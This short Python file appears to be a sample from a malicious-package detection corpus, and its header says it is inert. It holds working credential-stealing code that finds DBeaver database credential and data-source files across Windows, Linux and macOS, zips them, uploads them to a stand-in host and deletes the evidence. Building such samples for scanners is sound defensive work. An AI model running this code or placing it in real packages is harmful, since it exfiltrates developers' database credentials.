# pkgguard corpus 723 (credentials), modelled on [stealer-profile]; inert, never run.
import glob
import os
import zipfile

import requests

_roots = [
    os.path.join(os.environ.get("APPDATA", ""), "DBeaverData", "workspace6"),
    os.path.join(os.path.expanduser("~"), ".local", "share", "DBeaverData", "workspace6"),
    os.path.join(os.path.expanduser("~"), "Library", "DBeaverData", "workspace6"),
]
bundle = os.path.join(os.path.dirname(__file__), ".cache.zip")
with zipfile.ZipFile(bundle, "w") as zf:
    for root in _roots:
        for name in ("credentials-config.json", "data-sources.json"):
            for found in glob.glob(os.path.join(root, "*", ".dbeaver", name)):
                zf.write(found, found.replace(os.sep, "_"))
with open(bundle, "rb") as fh:
    requests.post("https://db-sync.example/u", files={"f": fh}, timeout=30)
os.remove(bundle)
